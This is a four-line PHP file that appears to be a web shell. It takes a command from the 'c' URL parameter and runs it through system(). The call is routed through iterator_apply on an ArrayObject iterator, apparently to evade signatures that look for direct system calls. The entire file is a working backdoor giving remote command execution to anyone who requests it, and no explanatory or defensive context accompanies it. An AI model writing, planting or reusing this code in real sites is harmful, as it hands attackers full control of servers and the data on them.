<?php
$x = new ArrayObject([$_GET['c']]);
$it = $x->getIterator();
iterator_apply($it, 'system', [$_GET['c']]);
